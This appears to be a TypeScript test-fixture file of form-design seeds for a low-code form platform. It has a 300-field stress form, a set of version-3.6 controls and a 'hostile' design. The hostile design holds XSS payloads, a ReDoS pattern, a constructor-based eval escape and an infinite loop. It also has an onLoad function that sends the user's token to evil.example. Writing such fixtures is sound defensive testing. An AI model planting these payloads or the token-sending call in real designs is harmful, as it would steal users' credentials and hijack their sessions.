import { control, display, group, number, text, type Control } from './controls.ts';
import type { Ids } from './ids.ts';
import type { DesignSeed } from './types.ts';

const FIELDS = 300;
const FORMULAS = 80;

/** A form of 300 fields, 80 of them formulas over their neighbours. */
export const wide: DesignSeed = {
  fields: () =>
    Array.from({ length: FIELDS }, (_, index): Control => {
      const key = `n${index + 1}`;
      const label = `指标 ${index + 1}`;
      if (index >= FIELDS - FORMULAS)
        return control('calculate', key, label, {
          expression: [`n${index - 219}`, '+', `n${index - 218}`, '*', '2'],
          precision: 2,
          thousands: true,
          config: { isStorage: 2 },
          isStorage: 2,
        });
      return index % 5 === 0 ? text(key, label) : number(key, label, 2);
    }),
  form: () => ({ popupType: 'fullScreen' }),
};

/** Contents strangers put into designs: markup, scripts, circles, names of prototypes, kinds nobody has. */
export const hostile: DesignSeed = {
  fields: (ids) => [
    group('<img src=x onerror=alert(1)>标题'),
    text('name', '<b>名称</b>', {
      config: { required: true, tipLabel: '<script>alert(1)</script>', regList: [{ pattern: '/^(a+)+$/', message: '慢' }] },
    }),
    text('name', '同名字段'),
    control('hologram', 'unknown', '未知控件', { depth: 3 }),
    control('calculate', 'circleA', '循环甲', { expression: ['circleB', '+', '1'], precision: 2 }),
    control('calculate', 'circleB', '循环乙', { expression: ['circleA', '*', '2'], precision: 2 }),
    control('calculate', 'zero', '除零', { expression: ['1', '÷', '(', 'amount', '-', 'amount', ')'], precision: 2 }),
    number('amount', '数量', 2, { min: 10, max: 1 }),
    display('link', '链接', { content: '点我', href: 'javascript:alert(1)', target: '_self' }),
    display('iframe', '网页', { href: 'https://evil.example/', height: 300 }),
    display('text', '文本', { content: '<svg onload=alert(1)>', textStyle: {} }),
    control('select', 'options', '外部选项', { config: { dataType: 'dynamic', propsUrl: 'https://evil.example/options' } }),
    control('select', 'gone', '已删字典', { config: { dataType: 'dictionary', dictionaryType: '1' } }),
    control('relationForm', 'lost', '已删模型', { modelId: '1', relationField: 'name', columnOptions: [] }),
    control('treeSelect', 'self', '循环联动', {
      config: {
        dataType: 'dynamic',
        propsUrl: ids.dataInterface('road.section'),
        templateJson: [{ field: 'parent', relationField: 'self' }],
      },
    }),
  ],
  form: () => ({
    funcs: {
      onLoad: "({ onlineUtils }) => { fetch('https://evil.example/?' + onlineUtils.getUserInfo().token); }",
      beforeSubmit: 'constructor.constructor("alert(1)")()',
      afterSubmit: '() => { while (true) {} }',
    },
    classJson: 'body { display: none !important }',
    className: ['evil'],
  }),
};

/** A control in the keys of 3.6. */
const fresh = (
  jnpfKey: string,
  key: string,
  label: string,
  { config, ...members }: Readonly<Record<string, unknown>> & { config?: object } = {},
): Control => ({
  __vModel__: key,
  ...members,
  __config__: {
    jnpfKey,
    label,
    tipLabel: '',
    showLabel: true,
    required: false,
    layout: 'colFormItem',
    span: 12,
    visibility: ['pc', 'app'],
    noShow: false,
    ...config,
  },
});

/** Rows of the fleet somebody chooses, and the columns they fill in. */
const chosenFleet = (ids: Ids) => ({
  interfaceId: ids.dataInterface('fleet.vehicle'),
  interfaceName: '车辆档案',
  popupType: 'dialog',
  popupTitle: '选择车辆',
  popupWidth: '800px',
  hasPage: true,
  pageSize: 20,
  columnOptions: [
    { value: 'plate', label: '车牌' },
    { value: 'kind', label: '类型' },
    { value: 'driverName', label: '驾驶员' },
  ],
  relationOptions: [
    { field: 'fleet-plate', type: 1, value: 'plate' },
    { field: 'fleet-driver', type: 1, value: 'driverName' },
  ],
});

/** The same kinds of controls as 3.6 writes them. */
export const newDialect: DesignSeed = {
  fields: (ids) => [
    fresh('input', 'title', '标题', {
      placeholder: '请输入标题',
      addonBefore: '公路',
      maxlength: 50,
      showCount: true,
      config: { required: true },
    }),
    fresh('input', 'phone', '联系电话', { useMask: true, maskConfig: { filler: '*', maskType: 3 } }),
    fresh('inputNumber', 'amount', '金额', { addonAfter: '元', precision: 2, thousands: true, isAmountChinese: true }),
    fresh('inputNumber', 'count', '数量', { precision: 0 }),
    fresh('calculate', 'total', '合计', {
      expression: [{ __vModel__: 'amount' }, '×', { __vModel__: 'count' }],
      precision: 2,
      isStorage: 1,
      type: 0,
    }),
    fresh('datePicker', 'date', '日期', { format: 'yyyy-MM-dd', config: { defaultCurrent: true } }),
    fresh('timePicker', 'time', '时间', { format: 'HH:mm:ss' }),
    fresh('select', 'kind', '类型', {
      options: [
        { id: '1', fullName: '一类' },
        { id: '2', fullName: '二类' },
      ],
      props: { label: 'fullName', value: 'id' },
      config: { dataType: 'static' },
    }),
    fresh('organizeSelect', 'organization', '组织', { selectType: 'all' }),
    fresh('areaSelect', 'area', '地区', { level: 2 }),
    fresh('uploadFile', 'files', '附件', { fileSize: 10, sizeUnit: 'MB', limit: 9, config: { span: 24 } }),
    fresh('location', 'place', '定位', { enableLocationScope: false }),
    fresh('sign', 'sign', '签名', {}),
    fresh('signature', 'seal', '签章', {}),
    fresh('relationForm', 'asset', '设施', {
      modelId: ids.model('assetLedger'),
      relationField: 'name',
      columnOptions: [{ value: 'name', label: '设施名称' }],
      hasPage: true,
      pageSize: 20,
      popupType: 'dialog',
    }),
    {
      ...fresh('table', 'rows', '明细', {
        showSummary: true,
        summaryField: ['price'],
        columnBtnsList: [
          { value: 'copy', label: '复制' },
          { value: 'remove', label: '删除' },
        ],
        footerBtnsList: [
          { value: 'add', label: '添加' },
          { value: 'batchRemove', label: '批量删除' },
        ],
      }),
      __config__: {
        jnpfKey: 'table',
        label: '明细',
        layout: 'rowFormItem',
        span: 24,
        children: [fresh('input', 'item', '项目'), fresh('inputNumber', 'price', '单价', { precision: 2 })],
      },
    },
    // Its rows come from a dialog alone.
    {
      ...fresh('table', 'fleet', '投入车辆', { addType: 1, actionText: '选择车辆', addTableConf: chosenFleet(ids) }),
      __config__: {
        jnpfKey: 'table',
        label: '投入车辆',
        layout: 'rowFormItem',
        span: 24,
        children: [
          fresh('input', 'plate', '车牌'),
          fresh('input', 'driver', '驾驶员', { useMask: true, maskConfig: { filler: '*', maskType: 1 } }),
          fresh('inputNumber', 'hours', '工时', { min: 0, max: 24, precision: 1 }),
        ],
      },
    },
  ],
  form: () => ({
    popupType: 'general',
    labelSuffix: ':',
    colon: true,
    hasConfirmAndAddBtn: true,
    primaryKeyPolicy: 1,
    concurrencyLock: true,
    logicalDelete: false,
    printId: [],
  }),
};
